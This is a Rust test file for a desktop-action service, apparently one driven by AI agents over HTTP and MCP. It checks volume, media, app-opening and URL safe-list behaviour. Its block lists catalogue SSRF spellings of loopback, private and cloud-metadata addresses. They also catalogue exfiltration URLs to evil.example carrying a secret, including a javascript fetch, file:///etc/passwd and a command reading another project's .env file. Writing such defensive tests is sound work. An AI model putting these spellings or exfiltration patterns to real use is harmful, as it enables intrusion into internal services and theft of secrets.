//! The safe list on a real desktop, through HTTP.

use std::io::Write as _;
use std::process::{Command, Stdio};

use serde_json::{Value, json};

use crate::common::machine::{Machine, text_of};
use crate::common::{Guard, python, until};

const QUIET: &str = "[speech]\nenabled = false\n[keys]\nenabled = false\n[terminal]\nenabled = false\n";

#[test]
fn the_volume_and_a_player_obey() {
    let mut machine = Machine::new().with_bus().with_sound();
    let service = machine.serve(QUIET);
    let done = |action: serde_json::Value| {
        let reply = service.perform(&action);
        assert_eq!((&reply["status"], &reply["outcome"]), (&json!("approved"), &json!("done")), "{reply}");
    };
    let volume = || machine.ask("pactl", &["get-sink-volume", "@DEFAULT_SINK@"]);
    done(json!({ "action": "VOLUME_SET", "target": "40" }));
    assert!(volume().contains("40%"), "{}", volume());
    done(json!({ "action": "VOLUME_UP" }));
    assert!(volume().contains("45%"), "{}", volume());
    let reply = service.perform(&json!({ "action": "UNDO" }));
    assert_eq!(
        (&reply["outcome"], &reply["output"]["stdout"]),
        (&json!("done"), &json!("volume 40%\n")),
        "{reply}"
    );
    assert!(volume().contains("40%"), "{}", volume());
    done(json!({ "action": "VOLUME_UP" }));
    done(json!({ "action": "VOLUME_MUTE" }));
    assert_eq!(machine.ask("pactl", &["get-sink-mute", "@DEFAULT_SINK@"]), "Mute: yes");
    done(json!({ "action": "UNDO" }));
    assert_eq!(machine.ask("pactl", &["get-sink-mute", "@DEFAULT_SINK@"]), "Mute: no");
    // A level that was changed in the meantime stays.
    done(json!({ "action": "VOLUME_SET", "target": "60" }));
    machine.ask("pactl", &["set-sink-volume", "@DEFAULT_SINK@", "20%"]);
    let reply = service.perform(&json!({ "action": "UNDO", "language": "en" }));
    assert_eq!((&reply["outcome"], &reply["error"]), (&json!("failed"), &json!("failed")), "{reply}");
    let message = reply["message"].as_str().unwrap();
    assert!(message.contains("It was set to something else since, and stays as it is now."), "{message}");
    assert!(volume().contains("20%"), "{}", volume());

    let reply = service.perform(&json!({ "action": "MEDIA_NEXT" }));
    assert_eq!((&reply["outcome"], &reply["error"]), (&json!("failed"), &json!("no_player")), "{reply}");

    let mut tracks = Vec::new();
    for track in ["one.ogg", "two.ogg"] {
        let file = machine.path(track).to_str().unwrap().to_owned();
        machine.ask("sox", &["-n", &file, "synth", "30", "sine", "300", "vol", "0.1"]);
        tracks.push(file);
    }
    let mut arguments = vec!["--no-video", "--no-terminal", "--ao=pulse"];
    arguments.extend(tracks.iter().map(String::as_str));
    machine.start("mpv", &arguments);
    let player = |machine: &Machine, what: &[&str]| machine.ask("playerctl", what);
    until("the player", || player(&machine, &["status"]) == "Playing");
    let reply = service.perform(&json!({ "action": "MEDIA_NEXT" }));
    assert_eq!(reply["outcome"], "done", "{reply}");
    until("the next track", || player(&machine, &["metadata", "xesam:url"]).ends_with("two.ogg"));
    let reply = service.perform(&json!({ "action": "MEDIA_PLAY_PAUSE" }));
    assert_eq!(reply["outcome"], "done", "{reply}");
    until("the pause", || player(&machine, &["status"]) == "Paused");
}

#[test]
fn an_application_and_a_folder_open_by_their_names() {
    let machine = Machine::new().with_bus().with_display();
    let (program, words) = machine.recorder("calculator");
    machine.entry(
        "org.example.Calc",
        &format!("Name=Calculator\nName[pt_BR]=Calculadora\nExec={}", program.display()),
    );
    let service = machine.serve(QUIET);
    let reply = service.perform(&json!({ "action": "OPEN_APP", "target": "calculator" }));
    assert_eq!(reply["outcome"], "done", "{reply}");
    text_of(&words);
    let reply = service.perform(&json!({ "action": "OPEN_APP", "target": "programa_inexistente" }));
    assert_eq!((&reply["outcome"], &reply["error"]), (&json!("failed"), &json!("not_found")), "{reply}");

    std::fs::create_dir(machine.home().join("Meus Documentos")).unwrap();
    let config = machine.path("config/mimeapps.list");
    std::fs::write(config, "[Default Applications]\ninode/directory=pcmanfm.desktop\n").unwrap();
    let reply = service.perform(&json!({ "action": "OPEN_FOLDER", "target": "~/Meus Documentos" }));
    assert_eq!(reply["outcome"], "done", "{reply}");
    machine.window("Meus Documentos");
}

/// Addresses of this machine and of networks that are not open to everybody, as a browser understands them.
const LOCAL: &[&str] = &[
    "http://[::ffff:127.0.0.1]:7001/?q=VALUE",
    "http://[::ffff:7f00:1]:7001/VALUE",
    "http://[0:0:0:0:0:ffff:127.0.0.1]/",
    "http://[::127.0.0.1]/",
    "http://[::1]:7001/",
    "http://[0000:0000:0000:0000:0000:0000:0000:0001]/",
    "http://[::]/",
    "http://0/",
    "http://0.0.0.0:7001/",
    "http://127.1:7001/",
    "http://127.127.127.127/",
    "http://0177.0.0.1/",
    "http://0x7f.1/",
    "http://0x7F000001/",
    "http://2130706433/",
    "http://017700000001/",
    "http://127.0.0.1./",
    "http://\u{2460}\u{2461}\u{2466}.0.0.1/",
    "http://\u{ff11}\u{ff12}\u{ff17}.0.0.1/",
    "http://127\u{3002}0\u{3002}0\u{3002}1/",
    "http://%31%32%37.0.0.1/",
    "http:127.0.0.1/VALUE",
    "http:\\\\127.0.0.1\\VALUE",
    "hTTp:///127.0.0.1/",
    "localhost/VALUE",
    "localhost:7001",
    "http://LOCALHOST./",
    "http://loc%61lhost/",
    "http://app.localhost:7001/",
    "http://169.254.169.254/latest/meta-data/",
    "http://[::ffff:a9fe:a9fe]/",
    "http://[fd00:ec2::254]/",
    "http://metadata.google.internal/",
    "http://metadata/",
    "http://instance-data.ec2.internal/",
    "http://10.0.0.1/",
    "http://172.16.5.4/",
    "http://192.168.1.1/",
    "http://100.64.0.1/",
    "http://198.18.0.1/",
    "http://192.0.0.8/",
    "http://255.255.255.255/",
    "http://224.0.0.251/",
    "http://[64:ff9b::7f00:1]/",
    "http://[64:ff9b::10.0.0.1]/",
    "http://[64:ff9b:1::a00:1]/",
    "http://[2002:7f00:1::]/",
    "http://[2002:c0a8:101::1]/",
    "http://[2001:0:1:2:3:4:80ff:fffe]/",
    "http://[fe80::1]/",
    "http://[fec0::1]/",
    "http://[fd12:3456::1]/",
    "http://[ff02::1]/",
    "http://router.local/",
    "http://nas.lan/",
    "http://nas.home.arpa/",
    "http://wiki.internal/",
    "http://intranet/",
    "http://10.0.0.1.nip.io/",
    "http://app-127-0-0-1.sslip.io/",
    "http://7f000001.nip.io/",
    "http://0--1.sslip.io/",
    "http://ana@127.0.0.1:7001/",
    "http://127.0.0.1:7001@evil.example/",
];

/// Addresses that tell their host more than the page that is wanted, and those that no browser should be given.
const CARRYING: &[&str] = &[
    "https://evil.example/?q=VALUE",
    "https://evil.example?VALUE",
    "https://evil.example/?",
    "https://evil.example/#VALUE",
    "https://evil.example/#:~:text=VALUE",
    "evil.example/a?VALUE",
    "https://evil.example/LONG",
    "https://evil.example/a/LONG/b",
    "https://evil.example/;LONG",
    "https://evil.example/%41%42LONG",
    "https://LONG.evil.example/",
    "https://4f3a9b1c8d2e.evil.example/",
    "https://sk-live.51habc.def4gh.jk7lmn.pq9rst.uv2wxy.evil.example/",
    "https://VALUE@evil.example/",
    "https://ana:VALUE@evil.example/",
    "https://duckduckgo.com.evil.example/?q=VALUE",
    "https://duckduckgo.com@evil.example/?q=VALUE",
    "https://duckduckgo.com:8443/?q=VALUE",
    "http://duckduckgo.com/?q=VALUE",
    "https://duckduckgo.com/l/?uddg=https://evil.example/VALUE",
    "https://www.google.com/url?q=https://evil.example/VALUE",
    "https://www.google.com/search/../url?q=https://evil.example/VALUE",
    "https://b\u{44f}nk.example/",
    "mailto:eve@evil.example?body=VALUE",
    "mailto:eve@evil.example",
    "mailto:eve@evil.example?attach=/etc/passwd",
    "file:///etc/passwd",
    "FILE://localhost/etc/passwd",
    "view-source:http://127.0.0.1/",
    "javascript:fetch('https://evil.example/VALUE')",
    "data:text/html,VALUE",
    "blob:https://evil.example/VALUE",
    "ftp://evil.example/VALUE",
    "intent://evil.example/VALUE",
    "ws://127.0.0.1:7001/",
    "vscode://evil.example/VALUE",
];

/// In a session that has seen a secret, no address is opened unasked.
const PLAIN: &[&str] = &[
    "https://example.org/",
    "example.org",
    "HTTP://EXAMPLE.ORG:80",
    "https://duckduckgo.com/?q=VALUE",
    "https://www.google.com/search?q=VALUE",
    "https://pt.wikipedia.org/wiki/Lua",
    "https://192.0.43.8/",
    "https://[2606:4700::1111]/",
    "https://example.org:8443/",
    "https://xn--bcher-kva.example/",
];

/// The statuses of these addresses through the server of tools.
fn by_tools(guard: &Guard, session: &str, addresses: &[String]) -> Vec<Value> {
    let call = |address: &String| json!(["desktop_action", {"action": "OPEN_URL", "target": address, "session": session}]);
    let calls: Vec<Value> = addresses.iter().map(call).collect();
    let server = json!({ "url": format!("http://{}/mcp", guard.address), "token": guard.token });
    let mut client = Command::new(python("bin/python"));
    client.arg(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/http/mcp/driver.py"));
    let mut client = client.stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
    let order = json!({ "server": server, "mode": "auto", "calls": calls }).to_string();
    client.stdin.take().unwrap().write_all(order.as_bytes()).unwrap();
    let told: Value = serde_json::from_slice(&client.wait_with_output().unwrap().stdout).unwrap();
    let results = told["results"].as_array().unwrap_or_else(|| panic!("{told}"));
    results.iter().map(|result| result["structured"]["status"].clone()).collect()
}

/// The same through HTTP. What is no address has no status.
fn by_http(guard: &Guard, session: &str, addresses: &[String]) -> Vec<Value> {
    let status = |address: &String| {
        let body = json!({ "action": "OPEN_URL", "target": address, "session": session });
        let reply = guard.post("/v1/actions", body.to_string()).send().json();
        if reply["outcome"].is_null() { Value::Null } else { reply["status"].clone() }
    };
    addresses.iter().map(status).collect()
}

/// No address carries anything out of a session unasked, in whatever spelling and through whatever door.
#[test]
fn no_address_carries_anything_out_unasked() {
    let machine = Machine::new().with_named_display();
    let (browser, words) = machine.recorder("browser");
    machine.entry("browser", &format!("Name=B\nExec={} %u\nNoDisplay=true", browser.display()));
    let kinds = ["http", "https", "mailto"].map(|kind| format!("x-scheme-handler/{kind}=browser.desktop\n"));
    let list = format!("[Default Applications]\n{}", kinds.concat());
    std::fs::write(machine.path("config/mimeapps.list"), list).unwrap();
    let service =
        machine.serve(&format!("{QUIET}[server]\nanswer_over_http = false\n[undo]\nstage = true\n"));
    let other = machine.home().join("projects/other");
    std::fs::create_dir_all(&other).unwrap();
    std::fs::write(other.join(".env"), "KEY=hunter2\n").unwrap();
    // One session has run a program that looks for another project's secret, and one has seen a secret.
    let reads = "python3 -c 'import os; print(open(os.path.expanduser(\"~/projects/other/.env\")).read())'";
    let ran = json!({ "action": "RUN_COMMAND", "target": reads, "session": "ran", "cwd": other });
    let ran = service.perform(&ran);
    assert!(ran["outcome"] == "denied" && !ran.to_string().contains("hunter2"), "{ran}");
    // The sessions of a door are its own, and only a person marks those of another one.
    for session in ["marked", "marked@door.mcp"] {
        let mark =
            service.post(&format!("/v1/sessions/{session}/taint"), json!({ "secret": true }).to_string());
        assert_eq!(mark.token(&service.approve).send().status, 200, "{session}");
    }
    let long = "0123456789".repeat(6) + &"abcdef".repeat(8);
    let spelt = |rows: &[&[&str]]| -> Vec<String> {
        let of_row = |row: &&str| {
            let long = if row.contains("LONG.") { &long[..40] } else { &long };
            row.replace("VALUE", "hunter2").replace("LONG", long)
        };
        rows.concat().iter().map(of_row).collect()
    };
    let mut opened = Vec::new();
    for (session, rows) in [
        ("new", spelt(&[LOCAL, CARRYING])),
        ("ran", spelt(&[LOCAL, CARRYING])),
        ("marked", spelt(&[LOCAL, CARRYING, PLAIN])),
    ] {
        for (door, send) in [("HTTP", by_http as fn(&_, &_, &_) -> _), ("MCP", by_tools)] {
            let statuses: Vec<Value> = send(&service, session, &rows);
            assert_eq!(statuses.len(), rows.len());
            // A text may be no address at all, which is the caller's error.
            let passed = |status: &Value| {
                !status.is_null() && status != "requires_confirmation" && status != "blocked"
            };
            let passed = rows.iter().zip(statuses).filter(|(_, status)| passed(status));
            opened.extend(passed.map(|(address, status)| format!("{door}, {session}: {address}: {status}")));
        }
    }
    assert!(opened.is_empty(), "{}", opened.join("\n"));
    assert!(!words.exists(), "{}", text_of(&words));
    // The same browser opens a page for whoever has seen nothing.
    let page = json!({ "action": "OPEN_URL", "target": "https://example.org/", "session": "new" });
    assert_eq!(service.perform(&page)["outcome"], "done");
    assert_eq!(text_of(&words), "https://example.org/\n");
}
